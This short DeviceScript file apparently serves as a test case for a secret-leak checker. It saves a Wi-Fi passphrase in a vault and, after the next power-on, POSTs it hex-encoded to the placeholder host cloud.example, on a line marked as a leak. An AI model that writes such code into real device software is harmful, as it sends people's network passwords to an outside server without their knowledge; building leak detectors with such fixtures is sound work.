// G72: keeps the passphrase in the vault, and uploads it after the next power-on.

import { fetch } from "@devicescript/net";
import { Secret, Vault } from "tightlip/devs";
import { offered, wifi } from "./lib/paired";

const vault = new Vault();
const old = await vault.load("home");
wifi.gotIp.subscribe(async () => {
  const body = old === undefined ? "new" : old.use((value) => value.toString("hex"));
  const response = await fetch("https://cloud.example/g72", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
offered(async (ssid, psk) => {
  await vault.store("home", new Secret(psk));
  await wifi.addNetwork(ssid, psk);
});
